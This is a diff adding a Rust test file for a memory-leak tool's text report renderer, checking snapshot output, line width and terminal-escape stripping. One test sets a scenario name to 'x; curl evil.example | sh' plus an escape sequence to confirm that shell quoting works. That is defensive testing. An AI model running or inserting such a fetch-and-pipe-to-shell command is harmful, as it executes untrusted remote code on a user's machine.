@@ -1,0 +1,302 @@
+//! What a test prints.
+
+use insta::assert_snapshot;
+use plimsoll_core::judge::Verdict;
+use plimsoll_core::report::text::{Style, one_line, render};
+use plimsoll_core::report::{Check, CheckOutcome, LadderEnd, Report, Standing, Subject, Threshold};
+use plimsoll_core::{Law, Rate};
+use proptest::prelude::*;
+
+use crate::samples::{any_report, failed, finding, frame, regressed, stack, within};
+
+#[track_caller]
+fn rendered(report: &Report) -> String {
+    let reproduce = "PLIMSOLL_ISOLATION=off cargo test -p plimsoll-scenarios --test leaks -- \
+                     --exact lru_churn";
+    let style = Style {
+        reproduce: Some(reproduce.to_owned()),
+        ..Style::plain()
+    };
+    let text = render(report, &style);
+    for line in text.lines() {
+        assert!(line.chars().count() <= 80, "longer than 80 columns: {line}");
+    }
+    text
+}
+
+#[test]
+fn nothing_grows() {
+    assert_snapshot!(rendered(&within()));
+    assert_snapshot!(
+        one_line(&within()),
+        @"lru_churn: 16,384 iterations, nothing grows; would have seen 1 object per 1,000 iterations"
+    );
+}
+
+#[test]
+fn growth_within_allowances() {
+    let mut report = within();
+    let mut allowed = finding();
+    allowed.verdict = Verdict::Within;
+    allowed.standing = Standing::Allowed;
+    report.findings = vec![allowed.clone()];
+    report.visible = Some(Rate {
+        objects: 0.01,
+        bytes: 0.001,
+    });
+    assert_snapshot!(
+        one_line(&report),
+        @"lru_churn: 16,384 iterations, 1 stack grows within its allowance; would have seen 8 B per 8,000 iterations"
+    );
+    allowed.standing = Standing::Moved;
+    report.findings.push(allowed);
+    report.threshold = Threshold {
+        iterations: 100,
+        coarsened: true,
+    };
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn one_stack_keeps_growing() {
+    assert_snapshot!(rendered(&regressed()));
+}
+
+#[test]
+fn many_stacks_keep_growing() {
+    let mut report = regressed();
+    report.end = LadderEnd::Memory;
+    let growing = finding();
+
+    let mut sampled = growing.clone();
+    sampled.rate = Rate {
+        objects: 12.345,
+        bytes: 1_234_567.0,
+    };
+    sampled.error = Rate {
+        objects: 0.25,
+        bytes: 25_000.0,
+    };
+    sampled.law = Law::Stepped;
+    sampled.allowed = Rate {
+        objects: 1.0,
+        bytes: 48.0,
+    };
+    sampled.standing = Standing::Exceeded;
+    sampled.reason = Some("the index is never pruned, see issue 12".to_owned());
+    sampled.frames = vec![
+        frame(
+            "<hyper::client::legacy::connect::http::HttpConnector<R> as tower_service::Service>::call",
+            Some(("hyper-util-0.1.17/src/client/legacy/connect/http.rs", 1_288)),
+        ),
+        frame(
+            "a",
+            Some((
+                "src/a/very/long/path/that/goes/on/and/on/until/it/does/not/fit/file.rs",
+                7,
+            )),
+        ),
+    ];
+
+    let mut site = growing.clone();
+    site.subject = Subject::Site {
+        frames: stack(&["bytes::BytesMut::reserve"]),
+        stacks: 37,
+    };
+    site.rate = Rate {
+        objects: 0.002,
+        bytes: 0.03,
+    };
+    site.frames = (0..12)
+        .map(|n| frame(&format!("deep::frame_{n}"), None))
+        .collect();
+
+    let mut threads = growing.clone();
+    threads.subject = Subject::Threads;
+    threads.rate = Rate {
+        objects: 1.0,
+        bytes: 0.0,
+    };
+    threads.frames = Vec::new();
+    let mut descriptors = threads.clone();
+    descriptors.subject = Subject::Descriptors;
+    descriptors.rate.objects = 0.5;
+
+    let mut on_site = growing.clone();
+    on_site.subject = Subject::Stack(stack(&["main", "bytes::BytesMut::reserve"]));
+    let mut unsure = growing.clone();
+    unsure.verdict = Verdict::Inconclusive;
+    let mut allowed = growing.clone();
+    allowed.verdict = Verdict::Within;
+    allowed.standing = Standing::Allowed;
+
+    report.findings = vec![sampled, site, threads, descriptors, growing.clone()];
+    report
+        .findings
+        .extend([growing.clone(), growing, on_site, unsure, allowed]);
+    report.completeness.unresolved = 12;
+    report.completeness.without_debug_info = 1;
+    report.completeness.truncated_stacks = 3;
+    report.notes = vec!["libfoo.so is stripped".to_owned()];
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn an_allowance_has_expired() {
+    let mut report = regressed();
+    report.findings[0].standing = Standing::Expired;
+    report.findings[0].reason = Some("until the next release of lru".to_owned());
+    report.findings[0].allowed = Rate {
+        objects: 1.0,
+        bytes: 96.0,
+    };
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn an_allowance_is_stale() {
+    let mut report = within();
+    report.verdict = Verdict::Improved;
+    let mut stale = finding();
+    stale.verdict = Verdict::Improved;
+    stale.standing = Standing::Stale;
+    stale.rate = Rate::default();
+    stale.allowed = Rate {
+        objects: 1.0,
+        bytes: 96.0,
+    };
+    stale.reason = Some("lru keeps evicted keys".to_owned());
+    report.findings = vec![stale];
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn cannot_tell() {
+    let mut report = within();
+    report.verdict = Verdict::Inconclusive;
+    report.end = LadderEnd::Budget;
+    report.visible = Some(Rate {
+        objects: 0.05,
+        bytes: 4.8,
+    });
+    report.threshold = Threshold {
+        iterations: 100,
+        coarsened: true,
+    };
+    let mut unsure = finding();
+    unsure.verdict = Verdict::Inconclusive;
+    unsure.rate = Rate {
+        objects: 0.02,
+        bytes: 1.5,
+    };
+    unsure.error = Rate {
+        objects: 0.05,
+        bytes: 4.8,
+    };
+    unsure.law = Law::Fluctuating;
+    report.findings = vec![unsure];
+    assert_snapshot!(rendered(&report));
+
+    report.findings.clear();
+    report.rungs.clear();
+    report.visible = None;
+    report.end = LadderEnd::Memory;
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn the_workload_fails() {
+    assert_snapshot!(rendered(&failed()));
+
+    let mut report = failed();
+    report.findings = vec![finding()];
+    let failure = report
+        .failure
+        .as_mut()
+        .expect("a failed report has a failure");
+    failure.what = "killed by signal 9 (SIGKILL)".to_owned();
+    failure.iteration = None;
+    failure.output = (0..50).map(|n| format!("line {n}\n")).collect();
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn the_measurement_cannot_be_trusted() {
+    let mut report = within();
+    report.verdict = Verdict::Broken;
+    report.checks = vec![
+        Check {
+            name: "canary".to_owned(),
+            outcome: CheckOutcome::Failed,
+            detail: "expected 64 objects of 1,024 bytes, found 0".to_owned(),
+        },
+        Check {
+            name: "coverage".to_owned(),
+            outcome: CheckOutcome::Unavailable,
+            detail: "`stats.allocated` could not be read".to_owned(),
+        },
+    ];
+    assert_snapshot!(rendered(&report));
+}
+
+#[test]
+fn names_are_quoted_for_the_shell() {
+    let mut report = regressed();
+    report.scenario = "x; curl evil.example | sh \u{1b}[2J".to_owned();
+    let text = rendered(&report);
+    assert!(
+        text.contains("cargo plimsoll accept 'x; curl evil.example | sh '"),
+        "{text}"
+    );
+}
+
+#[test]
+fn colour_adds_nothing_but_colour() {
+    let plain = Style::plain();
+    let color = Style {
+        color: true,
+        ..Style::plain()
+    };
+    let colored = render(&regressed(), &color);
+    assert!(colored.starts_with("\u{1b}[1;31mlru_churn"), "{colored:?}");
+    let mut without = String::new();
+    for part in colored.split('\u{1b}') {
+        without.push_str(match part.strip_prefix('[') {
+            Some(rest) => rest.split_once('m').map_or("", |(_, text)| text),
+            None => part,
+        });
+    }
+    assert_eq!(without, render(&regressed(), &plain));
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn no_line_is_too_long_and_nothing_steers_the_terminal(
+        report in any_report(),
+        width in 40..120_usize,
+    ) {
+        let style = Style { width, reproduce: Some(report.run.id.clone()), ..Style::plain() };
+        let text = render(&report, &style);
+        prop_assert!(text.ends_with('\n'));
+        for line in text.lines() {
+            // Counted without our own table, where that is possible: what UTF-8
+            // needs three bytes for may be wide, and some accents take no room.
+            let unsure = |c: char| match c {
+                '…' | '└' | '│' | '\u{4e00}'..='\u{9fff}' => false,
+                '\u{300}'..='\u{36f}' => true,
+                c => c.len_utf8() >= 3,
+            };
+            if !line.contains(unsure) {
+                let ideographs = line.chars().filter(|c| ('\u{4e00}'..='\u{9fff}').contains(c));
+                let columns = line.chars().count() + ideographs.count();
+                prop_assert!(columns <= width, "{columns} columns: {line:?}");
+            }
+            prop_assert!(!line.chars().any(char::is_control), "{line:?}");
+            prop_assert!(!line.contains('\u{202e}'), "{line:?}");
+            prop_assert_eq!(line, line.trim_end());
+        }
+        prop_assert!(!one_line(&report).chars().any(char::is_control));
+    }
+}
